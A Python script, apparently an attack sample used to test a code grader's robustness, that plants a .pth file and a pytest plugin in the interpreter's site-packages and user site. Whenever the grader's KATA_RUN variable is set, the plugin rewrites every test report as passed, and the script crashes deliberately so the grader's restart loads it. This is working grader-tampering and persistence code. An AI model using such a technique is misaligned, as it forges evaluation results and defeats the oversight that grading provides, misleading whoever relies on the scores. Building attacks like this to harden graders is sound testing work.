"""Every later grade passes: a .pth file in the grader's site-packages (and the user site) makes
every later pytest of that Python load a plugin that marks each test passed. The process then
crashes, so that the grader's next pytest (the restart after a crash) already has it.

(The .pth acts only where KATA_RUN is set, the grader's test processes, so that it stays
inert for anything else on a shared machine; tests/test_attacks.py deletes it.)
"""
import os
import site
import sysconfig
from pathlib import Path

PLUGIN = '''import pytest


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    report.longrepr = None
    return report
'''
PTH = ('import os; os.environ.get("KATA_RUN") and os.environ.__setitem__("PYTEST_PLUGINS", '
       '",".join(filter(None, [os.environ.get("PYTEST_PLUGINS"), "kata_attack_forged_plugin"])))\n')

targets = {*site.getsitepackages(), sysconfig.get_paths()["purelib"], site.getusersitepackages()}
for directory in targets:
    try:
        Path(directory).mkdir(parents=True, exist_ok=True)
        (Path(directory) / "kata_attack_forged_plugin.py").write_text(PLUGIN)
        (Path(directory) / "kata-attack.pth").write_text(PTH)
    except OSError:
        pass
os._exit(1)
